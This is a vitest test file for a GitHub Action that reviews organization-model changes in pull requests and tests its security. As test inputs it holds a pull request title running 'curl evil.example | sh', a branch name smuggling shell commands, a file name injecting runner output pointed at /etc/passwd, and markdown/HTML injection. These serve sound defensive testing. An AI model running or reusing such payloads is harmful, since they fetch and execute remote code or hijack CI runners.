import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { builtCommand } from '../../packages/cli/src/testing/command.ts';
import { type Forge, fakeForge } from '../forge/fake.ts';
import { gitIn, hotelGroupRepository, type PullRequest, reorganizationOf } from '../forge/reorganization.ts';
import { type ActionRun, action, type Job, runAction } from '../forge/run-action.ts';

const command = builtCommand();
const program = (): string => path.dirname(path.dirname(command.program));
const mark = '<!-- mktorg:review -->';

beforeAll(() => {
  symlinkSync(path.join(import.meta.dirname, '../../scripts'), path.join(program(), 'scripts'));
});

function payloadOf({ base, head, branch }: PullRequest): object {
  const fork = { full_name: 'somebody/organization', owner: { login: 'somebody' } };
  return {
    pull_request: {
      number: 7,
      title: '"; curl evil.example | sh #',
      base: { ref: 'main', sha: base },
      head: { ref: branch, sha: head, repo: fork },
    },
  };
}

interface Ran extends ActionRun {
  readonly forge: Forge;
  readonly temp: string;
}

/** Runs the action in a repository. */
function run(
  workspace: string,
  event: Job['event'],
  options: Pick<Job, 'inputs' | 'env'> & { readonly holds?: Partial<Forge> } = {},
): Ran {
  const temp = path.join(command.folder(), 'runner');
  const forge = fakeForge(path.dirname(temp), options.holds);
  const { inputs = {}, env = {} } = options;
  const job = { program: program(), workspace, temp, bin: forge.bin, event, inputs };
  return { ...runAction({ ...job, env: { ...forge.env, ...env } }), forge: forge.read(), temp };
}

/** How many structural changes a review tells of. */
function structuralIn(file = ''): string {
  const found = readFileSync(file, 'utf8').match(/"tier": ?"structural"/g) ?? [];
  expect(found.length).toBeGreaterThan(2);
  return String(found.length);
}

const onPullRequest = (pull: PullRequest): Job['event'] => ({
  name: 'pull_request',
  payload: payloadOf(pull),
});

describe('on a pull request, the action', () => {
  let pull: PullRequest;
  beforeAll(() => {
    pull = reorganizationOf(path.join(command.folder(), 'repository'));
  });

  it('writes outputs, a summary, annotations and a comment', () => {
    const { failed, log, summary, outputs, forge, temp } = run(pull.folder, onPullRequest(pull));
    expect({ failed, outputs }).toEqual({
      failed: false,
      outputs: {
        changed: 'true',
        structural: structuralIn(outputs['review-file']),
        findings: '3',
        'new-findings': '1',
        'fixed-findings': '0',
        'comment-file': path.join(temp, 'mktorg-review/comment.md'),
        'review-file': path.join(temp, 'mktorg-review/review.json'),
      },
    });
    expect(log).toContain('::warning file=organization/platforms.mktorg,line=124,col=10,');
    expect(log).toContain(`main (${pull.base.slice(0, 8)}) → content-to-growth (${pull.head.slice(0, 8)})`);
    expect(summary).toContain('### Structure');
    expect(forge.comments).toHaveLength(1);
    expect(forge.comments[0]?.body).toBe(readFileSync(outputs['comment-file'] ?? '', 'utf8'));
    expect(forge.comments[0]?.body.startsWith(`${mark}\n`)).toBe(true);
    expect(forge.calls.at(-1)).toMatchObject({
      method: 'POST',
      target: 'repos/larkhaven/organization/issues/7/comments',
      token: 'secret-token',
    });
  });

  it.each(['github-actions[bot]', 'github-actions'])(
    'updates its own comment, and nobody else’s, as %s',
    (login) => {
      const comments = [
        { id: 0, login: 'github-actions-2', body: `${mark}\nI am called much alike.` },
        { id: 1, login: 'somebody', body: `${mark}\nI wrote this mark myself.` },
        { id: 2, login: 'github-actions[bot]', body: `<!-- mktorg:other -->\n${mark}` },
        { id: 3, login: 'github-actions[bot]', body: `${mark}\nWhat was said before.` },
      ];
      const env = { FAKE_LOGIN: login };
      const { forge } = run(pull.folder, onPullRequest(pull), { env, holds: { comments } });
      expect(forge.comments.map(({ id }) => id)).toEqual([0, 1, 2, 3]);
      expect(forge.comments.slice(0, 3)).toEqual(comments.slice(0, 3));
      expect(forge.comments[3]?.body).toContain('### Structure');
      expect(forge.calls.filter(({ method }) => method !== 'GET')).toHaveLength(1);
    },
  );

  it('goes on without a comment where the token may not write, as in one from a fork', () => {
    const { failed, log, forge, summary } = run(pull.folder, onPullRequest(pull), {
      env: { FAKE_DENY: '1' },
    });
    expect(failed).toBe(false);
    expect(log).toContain('::notice title=mktorg::The token may not comment here');
    expect(forge.comments).toEqual([]);
    expect(summary).toContain('### Structure');
  });

  it('fails at the level that is asked for, and comments all the same', () => {
    const { failed, forge } = run(pull.folder, onPullRequest(pull), { inputs: { 'fail-level': 'warning' } });
    expect(failed).toBe(true);
    expect(forge.comments).toHaveLength(1);
  });

  it('counts what was there before only where that is asked for', () => {
    const withAll = { 'fail-level': 'warning', 'fail-on': 'all' };
    const { log } = run(pull.folder, onPullRequest(pull), { inputs: withAll });
    expect(log.match(/^::/gm)).toHaveLength(3);
  });

  it('refuses what guards do not let through', () => {
    const inputs = { 'require-reason': 'true', 'max-removed': '0.5%', 'fail-level': 'never' };
    const { failed, log, forge } = run(pull.folder, onPullRequest(pull), { inputs });
    expect(failed).toBe(true);
    expect(log).toContain('::error title=mktorg::1 of 118 seats are removed (0.8%25)');
    expect(forge.comments[0]?.body).toContain('### Refused');
  });

  it('leaves out the people in all that it writes', () => {
    const { log, summary, outputs, forge } = run(pull.folder, onPullRequest(pull), {
      inputs: { redact: 'people', 'fail-on': 'all' },
    });
    const all = [log, summary, forge.comments[0]?.body, readFileSync(outputs['review-file'] ?? '', 'utf8')];
    expect(all.join('\n')).not.toMatch(/Siobh|Théo|Marchand/);
    expect(summary).toContain('Director, Content');
  });

  it('tells comments apart by their key', () => {
    const comments = [{ id: 3, login: 'github-actions[bot]', body: `${mark}\nOf another run.` }];
    const { forge } = run(pull.folder, onPullRequest(pull), {
      inputs: { key: 'brand' },
      holds: { comments },
    });
    expect(forge.comments[0]).toEqual(comments[0]);
    expect(forge.comments[1]?.body.startsWith('<!-- mktorg:brand -->\n')).toBe(true);
  });

  it('comments not at all where that is turned off', () => {
    const { ran, forge } = run(pull.folder, onPullRequest(pull), { inputs: { comment: 'false' } });
    expect(ran).toEqual(['Prepare mktorg', 'Check and compare']);
    expect(forge.calls).toEqual([]);
  });

  it('says what to do where the clone does not reach back', () => {
    const shallow = path.join(command.folder(), 'shallow');
    pull.git('clone', '--quiet', '--depth', '1', '--no-tags', `file://${pull.folder}`, shallow);
    const git = gitIn(shallow);
    git('fetch', '--quiet', '--depth', '1', 'origin', pull.merge);
    git('checkout', '--quiet', pull.merge);
    const { failed, log } = run(shallow, onPullRequest(pull));
    expect(failed).toBe(true);
    expect(log).toContain('The clone does not reach back to main');
    expect(log).toContain('fetch-depth: 0');
  });

  it('says nothing of a pull request that is not checked out, as on pull_request_target', () => {
    const main = path.join(command.folder(), 'main');
    pull.git('worktree', 'add', '--quiet', '--detach', main, pull.base);
    const event = { name: 'pull_request_target', payload: payloadOf(pull) };
    const { failed, log, forge } = run(main, event);
    expect(failed).toBe(true);
    expect(log).toContain('What is checked out is not pull request 7');
    expect(forge.calls).toEqual([]);
  });

  it('compares with the base as it is now, not as it was when the pull request was opened', () => {
    const first = pull.git('rev-list', '--max-parents=0', 'HEAD');
    const stale = { ...pull, base: first };
    expect(run(pull.folder, onPullRequest(stale)).log).toContain(`main (${pull.base.slice(0, 8)})`);
  });
});

describe('where nothing is different, the action', () => {
  const plain = (): PullRequest => {
    const { folder, git } = hotelGroupRepository(path.join(command.folder(), 'repository'));
    const head = git('rev-parse', 'HEAD');
    return { folder, git, base: head, head, merge: head, branch: 'docs' };
  };

  it('makes no comment', () => {
    const pull = plain();
    const { forge, outputs, log } = run(pull.folder, onPullRequest(pull));
    expect(outputs['changed']).toBe('false');
    expect(forge.comments).toEqual([]);
    expect(log).toContain('no differences');
  });

  it('brings the comment up to date that is there', () => {
    const pull = plain();
    const comments = [{ id: 3, login: 'github-actions[bot]', body: `${mark}\nWhat was said before.` }];
    const { forge } = run(pull.folder, onPullRequest(pull), { holds: { comments } });
    expect(forge.comments[0]?.body).toContain('No differences');
  });
});

describe('elsewhere, the action', () => {
  it('compares what a push brings', () => {
    const pull = reorganizationOf(path.join(command.folder(), 'repository'));
    const payload = { ref: 'refs/heads/main', before: pull.base, repository: { default_branch: 'main' } };
    const { outputs, forge, log } = run(pull.folder, { name: 'push', payload });
    expect(outputs['structural']).toBe(structuralIn(outputs['review-file']));
    expect(log).toContain('There is no pull request to comment on.');
    expect(forge.calls).toEqual([]);
  });

  it.each(['schedule', 'workflow_dispatch'])('only checks on %s, and then all counts', (name) => {
    const { folder } = hotelGroupRepository(path.join(command.folder(), 'repository'));
    const { outputs, summary, failed, forge } = run(
      folder,
      { name, payload: {} },
      { inputs: { 'fail-level': 'warning' } },
    );
    expect(outputs).toMatchObject({ changed: '', findings: '2', 'comment-file': '' });
    expect(summary).toContain('## Larkhaven Hotels');
    expect(failed).toBe(true);
    expect(forge.calls).toEqual([]);
  });
});

describe('from a fork, in two workflows, the action', () => {
  let pull: PullRequest;
  let review: string;
  beforeAll(() => {
    pull = reorganizationOf(path.join(command.folder(), 'repository'));
    const first = run(pull.folder, onPullRequest(pull), { env: { FAKE_DENY: '1' } });
    review = readFileSync(first.outputs['review-file'] ?? '', 'utf8');
  });

  /** The trusted half: no checkout, an artifact, and what GitHub says of the run. */
  function second(text: string, about: object = {}, pulls?: Forge['pulls']): Ran {
    const workspace = command.folder({ 'review.json': text });
    const payload = {
      workflow_run: {
        event: 'pull_request',
        head_sha: pull.head,
        head_branch: pull.branch,
        head_repository: { owner: { login: 'somebody' } },
        ...about,
      },
    };
    const known = pulls ?? [
      { number: 8, head: `somebody:${pull.branch}`, commit: pull.base },
      { number: 7, head: `somebody:${pull.branch}`, commit: pull.head },
      { number: 9, head: `larkhaven:${pull.branch}`, commit: pull.head },
    ];
    return run(
      workspace,
      { name: 'workflow_run', payload },
      { inputs: { review: 'review.json' }, holds: { pulls: known } },
    );
  }

  it('comments on the pull request whose branch ends with the commit that ran', () => {
    const { failed, ran, forge, outputs } = second(review);
    expect(failed).toBe(false);
    expect(ran).toEqual(['Prepare mktorg', 'Render the review', 'Comment']);
    expect(forge.calls.at(-1)).toMatchObject({ target: 'repos/larkhaven/organization/issues/7/comments' });
    expect(forge.comments[0]?.body).toContain('### Structure');
    expect(outputs).toMatchObject({ changed: 'true', 'new-findings': '1' });
    expect(Number(outputs['structural'])).toBeGreaterThan(2);
  });

  it.each([
    ['is behind', { head_sha: '0'.repeat(40) }],
    ['is of somebody else', { head_repository: { owner: { login: 'larkhaven-2' } } }],
    ['was for a push', { event: 'push' }],
  ])('writes nothing where the run %s', (_, about) => {
    const { failed, forge } = second(review, about);
    expect(failed).toBe(false);
    expect(forge.calls.filter(({ method }) => method !== 'GET')).toEqual([]);
  });

  it('writes nothing where several pull requests end with the commit', () => {
    const head = `somebody:${pull.branch}`;
    const { log, forge } = second(review, {}, [
      { number: 7, head, commit: pull.head },
      { number: 8, head, commit: pull.head },
    ]);
    expect(log).toContain('2 pull requests end with this commit');
    expect(forge.comments).toEqual([]);
  });

  it.each([
    ['no JSON', 'PWNED'],
    ['another document', '{"format":"mktorg/model","version":1}'],
    ['markup where a number belongs', '{"format":"mktorg/review","version":"<img>"}'],
  ])('refuses a review that is %s', (_, text) => {
    const { failed, ran, forge, log } = second(text);
    expect(failed).toBe(true);
    expect(ran).not.toContain('Comment');
    expect(log).toContain('is no review of this version of mktorg');
    expect(forge.calls).toEqual([]);
  });

  it('takes what a review says for text', () => {
    const hostile = review.replaceAll('Larkhaven Hotels', '<img src=x>\\n\\n# @everyone [x](javascript:0)');
    const [comment] = second(hostile).forge.comments;
    expect(comment?.body).not.toMatch(/<img|^# |@everyone|\]\(javascript/m);
  });
});

it('annotates changed lines first, and says how many findings have no annotation', () => {
  const workspace = path.join(command.folder(), 'repository');
  const { folder, git } = hotelGroupRepository(workspace);
  const platform = (id: string): string => `platform ${id} "${id}" is crm { used by growth for "${id}" }\n`;
  const write = (file: string, ids: readonly string[]): string => {
    writeFileSync(path.join(folder, 'organization', file), ids.map(platform).join(''));
    git('add', '.');
    git('-c', 'user.name=T', '-c', 'user.email=t@example.com', 'commit', '--quiet', '--message', file);
    return git('rev-parse', 'HEAD');
  };
  const old = Array.from({ length: 12 }, (_, n) => `old-${n}`);
  const base = write('a.mktorg', old);
  // One on a line of a file that was there, one in a new file.
  write('a.mktorg', [...old.slice(0, 11), 'new-line', ...old.slice(11)]);
  const head = write('z.mktorg', ['new-file']);
  const pull = { folder, git, base, head, merge: head, branch: 'platforms' };
  const { log } = run(folder, onPullRequest(pull), { inputs: { 'fail-on': 'all' } });
  const owners = log.split('\n').filter((line) => line.includes('platform/owner'));
  const annotated = owners.filter((line) => line.startsWith('::'));
  expect(
    annotated.map((line) => /file=([^,]*),line=(\d+)/.exec(line)?.slice(1).join(':')).slice(0, 2),
  ).toEqual(['organization/a.mktorg:12', 'organization/z.mktorg:1']);
  expect(log.match(/^::warning /gm)).toHaveLength(10);
  expect(log).toMatch(/\d+ more findings above without an annotation/);
});

it('stays within what GitHub takes, however large the change', () => {
  const { folder, git } = hotelGroupRepository(path.join(command.folder(), 'repository'));
  const base = git('rev-parse', 'HEAD');
  const words = 'Senior Manager for Everything that somebody else has not been found for';
  const broken = Array.from(
    { length: 20 },
    (_, n) => `role broken${n} "Broken ${n}" { reports to nobody-${n} }\n`,
  );
  const roles = Array.from(
    { length: 4000 },
    (_, n) => `role r${n} "${words} ${n}" { held by "Person ${n}" }\n`,
  );
  const platforms = Array.from(
    { length: 40 },
    (_, n) => `platform p${n} "Platform ${n}" is crm { used by growth for "${words}" }\n`,
  );
  writeFileSync(path.join(folder, 'organization/large.mktorg'), [...broken, ...roles, ...platforms].join(''));
  git('add', '.');
  git('-c', 'user.name=T', '-c', 'user.email=t@example.com', 'commit', '--quiet', '--message', 'Grow');
  const head = git('rev-parse', 'HEAD');
  const inputs = { 'max-removed': '1%', 'require-reason': 'true' };
  const { log, summary, outputs, forge } = run(
    folder,
    onPullRequest({ folder, git, base, head, merge: head, branch: 'large' }),
    { inputs },
  );
  for (const level of ['error', 'warning', 'notice'])
    expect(log.match(new RegExp(`^::${level} `, 'gm'))?.length ?? 0).toBeLessThanOrEqual(10);
  expect(log.match(/^::error /gm)).toHaveLength(10);
  expect(log).toMatch(/\d+ more findings above without an annotation/);
  expect(Buffer.byteLength(summary)).toBeLessThanOrEqual(2 ** 20);
  expect(Buffer.byteLength(summary)).toBeGreaterThan(100_000);
  expect(forge.comments[0]?.body.length).toBeLessThanOrEqual(65_536);
  expect(JSON.stringify(outputs).length).toBeLessThan(10_000);
});

describe('against names that are traps, the action', () => {
  it('runs nothing of the name of a branch', () => {
    const branch = `a$(touch\${IFS}pwned)\`touch\${IFS}pwned\`"';touch\${IFS}pwned;#`;
    const pull = reorganizationOf(path.join(command.folder(), 'repository'), branch);
    const { failed, forge } = run(pull.folder, onPullRequest(pull));
    expect(failed).toBe(false);
    expect(forge.comments[0]?.body).toContain('touch');
    expect(existsSync(path.join(pull.folder, 'pwned'))).toBe(false);
  });

  it('lets the name of a file say nothing to the runner', () => {
    const { folder, git } = hotelGroupRepository(path.join(command.folder(), 'repository'));
    const base = git('rev-parse', 'HEAD');
    const name = 'x\n::set-output name=comment-file::%2Fetc%2Fpasswd\n::error::boo.mktorg';
    rmSync(path.join(folder, 'organization/people.mktorg'));
    writeFileSync(path.join(folder, 'organization', name.replaceAll('/', '')), 'team {\n'.repeat(40));
    git('add', '.');
    git('-c', 'user.name=T', '-c', 'user.email=t@example.com', 'commit', '--quiet', '--message', 'Trap');
    const head = git('rev-parse', 'HEAD');
    const pull = { folder, git, base, head, merge: head, branch: 'trap' };
    const { log, summary, outputs } = run(folder, onPullRequest(pull));
    expect(log).not.toMatch(/^::set-output|^::error::boo/m);
    expect(summary).not.toMatch(/^::/m);
    expect(outputs['comment-file']).toMatch(/comment\.md$/);
  });
});

describe('action.yml', () => {
  it('puts no expression into a script', () => {
    for (const { run: script } of action.runs.steps) expect(script).not.toContain('${{');
  });

  it('asks only what GitHub answers', () => {
    // What `--jq` is given is checked where jq is there; the stand-in for gh knows only the shape of the answers.
    let filters: readonly string[];
    try {
      execFileSync('jq', ['--version']);
      filters = [
        ...readFileSync('scripts/ci/github-comment.mjs', 'utf8').matchAll(/'(\.\[\] \| .*tojson)'/g),
      ].map(([, filter = '']) => filter.replaceAll('\\\\', '\\'));
    } catch {
      return;
    }
    expect(filters).toHaveLength(2);
    const comment = {
      id: 3,
      user: { login: 'a', type: 'Bot' },
      body: `${mark}\nText`,
      number: 7,
      head: { sha: 'abc' },
    };
    const answers = filters.map((filter) =>
      JSON.parse(
        execFileSync('jq', ['--raw-output', filter], { input: JSON.stringify([comment]), encoding: 'utf8' }),
      ),
    );
    expect(answers).toEqual([
      { number: 7, commit: 'abc' },
      { id: 3, login: 'a', type: 'Bot', mark },
    ]);
  });
});
